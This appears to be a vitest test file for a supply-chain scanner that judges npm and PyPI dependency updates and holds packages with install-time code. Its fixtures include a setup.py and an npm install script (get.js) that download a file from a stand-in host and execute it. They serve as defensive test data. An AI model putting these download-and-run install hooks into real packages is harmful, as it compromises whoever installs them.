import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type ScanOutput, scanOutput } from '../output/scanOutput.ts';
import { type Gatehouse, makeGatehouse } from '../testing/gatehouse.ts';
import { runPortcullis } from '../testing/runPortcullis.ts';
import { type LoopbackRegistry, type Served, startRegistry } from './testing/loopbackRegistry.ts';

const DRILL = fileURLToPath(new URL('../../../../drills/packages/axios-2026/', import.meta.url));
let house: Gatehouse;
let registry: LoopbackRegistry;

/** A folder as `npm pack` makes a package of it, and a registry serves it. */
function packed(folder: string): Served {
  const { name, version } = JSON.parse(readFileSync(join(folder, 'package.json'), 'utf8')) as {
    name: string;
    version: string;
  };
  execFileSync('npm', ['pack', '--silent', '--ignore-scripts', '--pack-destination', house.directory], { cwd: folder });
  const file = `${name.replace(/^@/, '').replace('/', '-')}-${version}.tgz`;
  return { name, version, file, bytes: readFileSync(join(house.directory, file)) };
}
/** A package of npm of our own that does nothing but to need others. */
function needing(name: string, version: string, dependencies: Record<string, string>): Served {
  const top = `${name}-${version}`;
  mkdirSync(join(house.directory, top, 'package'), { recursive: true });
  house.write(`${top}/package/package.json`, JSON.stringify({ name, version, dependencies }));
  house.write(`${top}/package/index.js`, 'exports.one = 1;\n');
  const file = `${top}.tgz`;
  execFileSync('tar', ['-czf', `../${file}`, 'package'], { cwd: join(house.directory, top) });
  return { name, version, file, bytes: readFileSync(join(house.directory, file)) };
}
/** A source archive of PyPI. */
function sdist(name: string, version: string, needs: readonly string[], setup = ''): Served {
  const top = `${name}-${version}`;
  mkdirSync(join(house.directory, top, name), { recursive: true });
  const requires = needs.map((need) => `Requires-Dist: ${need}\n`).join('');
  house.write(`${top}/PKG-INFO`, `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\n${requires}\n`);
  house.write(`${top}/setup.py`, `from setuptools import setup\n${setup}setup()\n`);
  house.write(`${top}/${name}/__init__.py`, 'one = 1\n');
  const file = `${top}.tar.gz`;
  execFileSync('tar', ['-czf', file, top], { cwd: house.directory });
  return { name, version, file, bytes: readFileSync(join(house.directory, file)) };
}

beforeAll(async () => {
  house = makeGatehouse();
  house.write(
    'portcullis.yaml',
    house.read('portcullis.yaml').replace('policies:\n', 'policies:\n  package: {quorum: 2 of board, expires: 1h}\n'),
  );
  // What lies in the drill is what is judged: npm writes nothing into it.
  cpSync(DRILL, join(house.directory, 'drill'), { recursive: true });
  const npm = [
    ...['clean', 'poisoned', 'dependency'].map((folder) => packed(join(house.directory, 'drill', folder))),
    needing('far', '1.0.0', {}),
    needing('far', '1.0.1', { middle: '^1.0.0', '@absent/thing': '^1', elsewhere: 'https://example.invalid/x.tgz' }),
    needing('middle', '1.2.0', { 'drill-plain-crypto': '~4.2.0', far: '^1.0.0' }),
    needing('crowd', '1.0.0', {}),
    needing('crowd', '1.1.0', Object.fromEntries(Array.from({ length: 70 }, (_, at) => [`one-${at}`, '1']))),
    ...Array.from({ length: 70 }, (_, at) => needing(`one-${at}`, '1.0.0', {})),
    needing('swapped', '1.0.0', {}),
    needing('swapped', '1.0.1', { bad: '1' }),
    { ...needing('bad', '1.0.0', {}), says: `sha512-${Buffer.alloc(64).toString('base64')}` },
  ];
  const pypi = [
    sdist('coin', '1.0', ['requests>=2']),
    sdist('coin', '1.1', ['requests>=2', 'Evil_Helper (>=1,<2)', 'optional; extra == "x"']),
    {
      ...sdist(
        'evil_helper',
        '1.5',
        [],
        'import subprocess, urllib.request\nurllib.request.urlretrieve("https://example.invalid/x", "/tmp/x")\nsubprocess.Popen(["/tmp/x"])\n',
      ),
      name: 'evil-helper',
    },
  ];
  registry = await startRegistry(npm, pypi);
  house.write('.npmrc', `registry=${registry.npm}\n`);
});
afterAll(async () => {
  await registry.close();
  house.remove();
});
beforeEach(() => {
  registry.asked.length = 0;
});

async function scan(...args: readonly string[]): Promise<{ exit: number | null; value: ScanOutput; text: string }> {
  const env = { HOME: house.directory, PIP_INDEX_URL: registry.simple };
  const { exit, out, err } = await runPortcullis(house.directory, ['scan', ...args, '--json'], env);
  expect(err).not.toContain('TypeError');
  return { exit, value: scanOutput.parse(JSON.parse(out)), text: out };
}
const dependenciesOf = ({ judgements }: ScanOutput): string[] =>
  (judgements[0]?.dependencies ?? []).map(
    ({ name, judged, why }) => `${name} ${judged === null ? `not judged: ${why ?? ''}` : judged.decision}`,
  );

describe('what an update brings', () => {
  it.each([
    ['a package of the registry', ['pkg:npm/drill-axios@1.14.1', '--since', 'previous']],
    ['a file', ['drill-axios-1.14.1.tgz', '--since', 'drill-axios-1.14.0.tgz']],
    ['a folder', ['drill/poisoned', '--since', 'drill/clean']],
  ])('is fetched and judged with %s, and holds it by the file that runs at install', async (_, args) => {
    const { exit, value } = await scan(...args);
    expect(exit).toBe(1);
    const [worst] = value.judgements[0]?.findings ?? [];
    expect(worst).toMatchObject({
      rule: 'change.held-dependency',
      decision: 'hold',
      places: expect.arrayContaining([expect.objectContaining({ file: 'drill-plain-crypto@4.2.1/setup.js' })]) as never,
    });
    expect(dependenciesOf(value)).toEqual(['drill-plain-crypto hold']);
  });

  it('is told in the text, with where it stands', async () => {
    const { out } = await runPortcullis(
      house.directory,
      ['scan', 'drill-axios-1.14.1.tgz', '--since', 'drill-axios-1.14.0.tgz'],
      { HOME: house.directory },
    );
    expect(out).toContain('It brings, judged too: pkg:npm/drill-plain-crypto@4.2.1 (hold).');
    expect(out).toMatch(/drill-plain-crypto@4\.2\.1\/setup\.js:\d+/);
  });

  it('is judged also where it comes by way of another, and what cannot be judged makes the judgement partial', async () => {
    const { exit, value } = await scan('pkg:npm/far@1.0.1', '--since', '1.0.0');
    expect(exit).toBe(1);
    expect(dependenciesOf(value)).toEqual([
      'middle pass',
      expect.stringMatching(/^@absent\/thing not judged: .*does not have this package/),
      expect.stringMatching(/^elsewhere not judged: it comes from outside the registry/),
      'drill-plain-crypto hold',
    ]);
    expect(value.judgements[0]?.partial).toBe(true);
    expect(value.judgements[0]?.findings[0]?.why).toContain('drill-plain-crypto ~4.2.0 of pkg:npm/middle@1.2.0');
  });

  it('is judged up to a number, and told beyond it', async () => {
    const { value } = await scan('pkg:npm/crowd@1.1.0', '--since', '1.0.0');
    const told = dependenciesOf(value);
    expect(told).toHaveLength(70);
    expect(told.filter((one) => one.endsWith(' pass'))).toHaveLength(64);
    expect(told.filter((one) => one.includes('more than 64 packages'))).toHaveLength(6);
    expect(value.judgements[0]).toMatchObject({ decision: 'review', partial: true });
  });

  it('is refused where the registry sends other bytes than it says', async () => {
    const { exit, out } = await runPortcullis(
      house.directory,
      ['scan', 'pkg:npm/swapped@1.0.1', '--since', '1.0.0', '--json'],
      { HOME: house.directory },
    );
    expect([exit, out]).toEqual([1, expect.stringContaining('digest-mismatch')]);
  });

  it.each([
    ['--no-dependencies', /not judged: --no-dependencies/],
    ['--offline', /not judged: --offline fetches nothing/],
  ])('is left alone with %s, and that is said', async (option, words) => {
    const { exit, value } = await scan('drill-axios-1.14.1.tgz', '--since', 'drill-axios-1.14.0.tgz', option);
    expect(exit).toBe(0);
    expect(registry.asked).toEqual([]);
    expect(dependenciesOf(value)).toEqual([expect.stringMatching(words)]);
    expect(value.judgements[0]?.findings[0]?.why).toMatch(words);
  });

  it('is not asked for where nothing is new, or nothing to compare with', async () => {
    await scan('drill-axios-1.14.1.tgz');
    await scan('drill-axios-1.14.1.tgz', '--since', 'drill-axios-1.14.1.tgz');
    expect(registry.asked).toEqual([]);
  });

  it('lies beside it in an installation, and is judged there as new', async () => {
    // A downloader that hides nothing, as installers have it: alone it is to be read.
    const plain = {
      'package.json': JSON.stringify({ name: 'plain', version: '1.0.0', scripts: { install: 'node get.js' } }),
      'get.js':
        "const fs = require('fs'), https = require('https'), cp = require('child_process');\nhttps.get('https://example.invalid/x', (r) => { r.pipe(fs.createWriteStream('./x')); cp.spawn('./x'); });\n",
    };
    const client = (version: string, dependencies: object): Record<string, string> => ({
      'package.json': JSON.stringify({ name: 'client', version, dependencies }),
    });
    const install = (root: string, packages: Record<string, Record<string, string>>): void => {
      for (const [name, files] of Object.entries(packages)) {
        mkdirSync(join(house.directory, root, 'node_modules', name), { recursive: true });
        for (const [file, text] of Object.entries(files)) house.write(`${root}/node_modules/${name}/${file}`, text);
      }
    };
    install('was', { client: client('1.0.0', {}) });
    install('is', { client: client('1.0.1', { plain: '1' }), plain });
    const { value } = await scan('is/node_modules', '--since', 'was/node_modules');
    expect(value.judgements.map(({ subject, decision }) => `${subject} ${decision}`)).toEqual([
      'pkg:npm/client@1.0.1 review',
      'pkg:npm/plain@1.0.0 hold',
    ]);
    expect(dependenciesOf(value)).toEqual([expect.stringMatching(/^plain not judged: .*judged by itself/)]);
    expect(registry.asked).toEqual([]);
    expect((await scan('is/node_modules/plain')).value.decision).toBe('review');
  });

  it('is let through by a permit for itself, and by none for the update', async () => {
    const held = async (...more: string[]) =>
      await scan('drill-axios-1.14.1.tgz', '--since', 'drill-axios-1.14.0.tgz', ...more);
    const permit = async (file: string, subject: string, digest: string, rules: readonly string[]): Promise<void> => {
      const propose = ['propose', 'package', subject, '--artifact', digest, '--rule', ...rules];
      const env = { HOME: house.directory };
      const made = await runPortcullis(
        house.directory,
        [...propose, '--as', 'alice', '--out', file, '--sign', '--key', 'alice', '--yes'],
        env,
      );
      expect(made.err).toBe('');
      await runPortcullis(house.directory, ['sign', file, '--key', 'bob', '--yes'], env);
    };
    const [update] = (await held()).value.judgements;
    const dependency = update?.dependencies[0]?.judged;
    await permit('update.json', update?.subject ?? '', update?.digest ?? '', ['change.held-dependency']);
    expect((await held('--permit', 'update.json')).exit).toBe(1);
    const rules = (dependency?.findings ?? []).flatMap(({ rule, decision }) => (decision === 'note' ? [] : [rule]));
    await permit('dependency.json', dependency?.subject ?? '', dependency?.digest ?? '', [...new Set(rules)]);
    const through = await held('--permit', 'dependency.json');
    expect([through.exit, dependenciesOf(through.value)]).toEqual([0, ['drill-plain-crypto pass']]);
  });

  it('is judged with packages of PyPI too, but for extras', async () => {
    const { exit, value } = await scan('pkg:pypi/coin@1.1', '--since', '1.0');
    expect(exit).toBe(1);
    expect(dependenciesOf(value)).toEqual(['Evil_Helper hold']);
    expect(value.judgements[0]?.findings[0]).toMatchObject({
      rule: 'change.held-dependency',
      places: expect.arrayContaining([expect.objectContaining({ file: 'evil-helper@1.5/setup.py' })]) as never,
    });
  });
});
